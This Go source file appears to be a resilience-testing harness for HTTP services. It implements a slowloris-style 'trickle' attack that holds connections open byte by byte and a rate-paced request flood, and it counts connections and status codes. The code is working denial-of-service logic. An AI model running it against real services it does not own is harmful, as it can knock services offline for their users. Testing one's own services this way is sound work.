package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"sync"
	"time"
)

// tally counts what an attack does. It is safe for concurrent use.
type tally struct {
	mu    sync.Mutex
	r     sighting
	began time.Time
	full  chan struct{} // closed when all that shall be open has been
	once  sync.Once
}

func newTally() *tally {
	return &tally{r: sighting{Status: map[int]int{}}, began: time.Now(), full: make(chan struct{})}
}

func (t *tally) now() sighting {
	t.mu.Lock()
	defer t.mu.Unlock()
	r := t.r
	r.Status = map[int]int{}
	for k, v := range t.r.Status {
		r.Status[k] = v
	}
	r.Seconds = time.Since(t.began).Seconds()
	return r
}

func (t *tally) opened(of int) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.r.Opened++
	t.r.Held++
	t.r.Most = max(t.r.Most, t.r.Held)
	if t.r.Opened >= of {
		t.once.Do(func() { close(t.full) })
	}
}

func (t *tally) closed(held time.Duration, byTheService bool) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.r.Held--
	if byTheService {
		t.r.Cut++
		t.r.Longest = max(t.r.Longest, held)
	}
}

func (t *tally) answered(status int) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.r.Sent++
	t.r.Status[status]++
}

// dialers is how many connections are being opened at a time.
const dialers = 64

// trickle holds connections open: each begins a request and goes on with it byte by byte.
func trickle(ctx context.Context, a assault, t *tally) {
	var all sync.WaitGroup
	gate := make(chan struct{}, dialers)
	for i := range a.Count {
		all.Go(func() {
			for ctx.Err() == nil {
				if err := hold(ctx, a, i, gate, t); err == nil && !a.Again {
					return
				}
				select { // neither a flood of connections nor a loop
				case <-ctx.Done():
				case <-time.After(time.Second):
				}
			}
		})
	}
	all.Wait()
}

// hold holds one connection until the service cuts it.
func hold(ctx context.Context, a assault, i int, gate chan struct{}, t *tally) error {
	select {
	case gate <- struct{}{}:
	case <-ctx.Done():
		return ctx.Err()
	}
	c, err := dialFrom(i, a.Host, 5*time.Second)
	<-gate
	if err != nil {
		return err
	}
	defer c.Close()
	if a.Receive > 0 {
		c.(*net.TCPConn).SetReadBuffer(a.Receive)
	}
	began := time.Now()
	if _, err := c.Write(a.Requests[i%len(a.Requests)]); err != nil {
		return err
	}
	t.opened(a.Count)
	cut := drip(ctx, c, a.Every, a.Receive == 0)
	t.closed(time.Since(began), cut)
	return nil
}

// drip sends a byte from time to time until the service has closed the connection, which it reports. Who does not
// read notices only by what becomes of its bytes.
func drip(ctx context.Context, c net.Conn, every time.Duration, reads bool) (cut bool) {
	space := make([]byte, 256)
	for ctx.Err() == nil {
		if reads {
			c.SetReadDeadline(time.Now().Add(every))
			for {
				if _, err := c.Read(space); errors.Is(err, os.ErrDeadlineExceeded) {
					break
				} else if err != nil {
					return true
				}
			}
		} else {
			select {
			case <-ctx.Done():
				return false
			case <-time.After(every):
			}
		}
		if _, err := c.Write([]byte("x")); err != nil {
			return true
		}
	}
	return false
}

// dialFrom connects from an address of this machine: each 127.0.n.1 is a network of its own. Where a machine has one
// such address only, that is it.
func dialFrom(i int, host string, timeout time.Duration) (net.Conn, error) {
	from := &net.TCPAddr{IP: net.ParseIP(fmt.Sprintf("127.0.%d.1", 1+i%250))}
	c, err := (&net.Dialer{LocalAddr: from, Timeout: timeout}).Dial("tcp", host)
	if err != nil {
		return (&net.Dialer{Timeout: timeout}).Dial("tcp", host)
	}
	return c, nil
}

// flood sends whole requests at a rate, on kept connections, and reads what is answered.
func flood(ctx context.Context, a assault, t *tally) {
	t.once.Do(func() { close(t.full) })
	var all sync.WaitGroup
	due := make(chan int)
	for i := range a.Count {
		all.Go(func() { send(i, a, due, t) })
	}
	pace(ctx, a.Rate, due)
	close(due)
	all.Wait()
}

// pace says when the next request is due, by its number. What nobody could take in time is left out.
func pace(ctx context.Context, rate int, due chan<- int) {
	const step = 5 * time.Millisecond
	ticks := time.NewTicker(step)
	defer ticks.Stop()
	began, n := time.Now(), 0
	for {
		select {
		case <-ctx.Done():
			return
		case <-ticks.C:
		}
		for want := int(time.Since(began).Seconds() * float64(rate)); n < want; n++ {
			select {
			case due <- n:
			default:
			}
		}
	}
}

// send sends what is due on a connection, and opens another one when the service has closed it.
func send(i int, a assault, due <-chan int, t *tally) {
	var c net.Conn
	space := make([]byte, 64<<10)
	for n := range due {
		if c == nil {
			var err error
			if c, err = dialFrom(i, a.Host, 5*time.Second); err != nil {
				t.answered(0)
				continue
			}
		}
		status, kept := exchange(c, a.Requests[n%len(a.Requests)], space)
		t.answered(status)
		if !kept {
			c.Close()
			c = nil
		}
	}
	if c != nil {
		c.Close()
	}
}

var headEnd = []byte("\r\n\r\n")

// exchange sends a request and reads the answer, of which it returns the status; zero for none. It is a client of few
// instructions: those of the attack shall not be what is measured.
func exchange(c net.Conn, request, space []byte) (status int, kept bool) {
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := c.Write(request); err != nil {
		return 0, false
	}
	n := 0
	for n < len(space) {
		read, err := c.Read(space[n:])
		n += read
		head, body, whole := bytes.Cut(space[:n], headEnd)
		if whole && len(head) > len("HTTP/1.1 200") {
			status, _ = strconv.Atoi(string(head[9:12]))
			length, ok := lengthOf(head)
			if !ok || bytes.Contains(head, []byte("\r\nConnection: close")) {
				return status, false
			}
			_, err := io.CopyN(io.Discard, c, int64(max(0, length-len(body))))
			return status, err == nil
		}
		if err != nil {
			return 0, false
		}
	}
	return 0, false
}

// lengthOf is the length that the headers announce.
func lengthOf(head []byte) (int, bool) {
	_, rest, ok := bytes.Cut(head, []byte("\r\n"+http.CanonicalHeaderKey("content-length")+": "))
	if !ok {
		return 0, false
	}
	digits, _, _ := bytes.Cut(rest, headEnd[:2])
	n, err := strconv.Atoi(string(digits))
	return n, err == nil
}
